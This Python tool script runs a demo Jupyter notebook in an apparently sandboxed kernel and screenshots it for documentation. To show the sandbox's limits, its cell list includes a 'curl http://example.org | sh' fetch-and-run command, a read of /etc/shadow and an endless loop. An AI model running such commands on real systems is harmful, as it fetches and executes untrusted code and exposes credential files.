"""Make docs/how-to/notebook.png: a real notebook, executed in the kernel, rendered, photographed.

    python tools/notebook_picture.py [docs/how-to/notebook.png]

Needs tools/requirements-notebook.txt and Debian's package chromium. Nothing is fetched: the page is
nbconvert's HTML with its addresses of other servers taken out.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
CELLS = (
    "import statistics\nmarks = [1.0, 2.3, 1.7, 3.0]\n"
    "print('mean', statistics.mean(marks))\nmax(marks)",
    "import matplotlib.pyplot as plt\nplt.figure(figsize=(5, 1.6))\nplt.plot(sorted(marks), 'o-')\n"
    "plt.title('marks')\nplt.show()",
    "import pandas as pd\npd.DataFrame({'name': ['Ada', 'Bob'], 'mark': marks[:2]})",
    "import os\nos.system('curl http://example.org | sh')",
    "open('/etc/shadow').read()",
    "while True:\n    pass",
    "marks",
)
SIZE = (860, 1460)
LARGEST = 300_000


def executed() -> Any:
    """The notebook with its outputs."""
    import nbclient
    import nbformat

    from csandbox.jupyter.install import install

    with tempfile.TemporaryDirectory() as folder:
        where = install(prefix=folder, limits={"cpu_s": 2})
        os.environ["JUPYTER_PATH"] = str(Path(where).parents[1])
        notebook = nbformat.v4.new_notebook(
            cells=[nbformat.v4.new_code_cell(source) for source in CELLS],
            metadata={"language_info": {"name": "python", "pygments_lexer": "ipython3"}},
        )
        client = nbclient.NotebookClient(notebook, kernel_name="csandbox", allow_errors=True)
        client.execute()
    return notebook


def page(notebook: Any) -> str:
    """HTML that asks no server for anything."""
    from nbconvert import HTMLExporter

    text, _ = HTMLExporter(template_name="lab").from_notebook_node(notebook)
    text = re.sub(r'<script[^>]*\bsrc="https?:[^>]*></script>', "", text)
    return re.sub(r"<script[^>]*>(?:(?!</script>).)*https?:(?:(?!</script>).)*</script>", "", text,
                  flags=re.S)  # fmt: skip


def photograph(html: Path, picture: Path) -> None:
    """One screenshot by headless Chromium."""
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        raise SystemExit("chromium is missing: on Debian, apt-get install chromium")
    with tempfile.TemporaryDirectory() as profile:
        subprocess.run(
            [browser, "--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars",
             f"--user-data-dir={profile}", f"--window-size={SIZE[0]},{SIZE[1]}",
             "--host-resolver-rules=MAP * ~NOTFOUND", f"--screenshot={picture}", html.as_uri()],
            check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=300,
        )  # fmt: skip


def main() -> None:
    """Execute, render, photograph, check the size."""
    picture = Path(sys.argv[1] if len(sys.argv) > 1 else ROOT / "docs" / "how-to" / "notebook.png")
    with tempfile.TemporaryDirectory() as folder:
        html = Path(folder, "notebook.html")
        html.write_text(page(executed()), encoding="utf-8")
        photograph(html, picture.absolute())
    size = picture.stat().st_size
    if size > LARGEST:
        raise SystemExit(f"{picture} has {size} bytes, more than {LARGEST}")
    print(f"{picture}: {size} bytes")


if __name__ == "__main__":
    main()
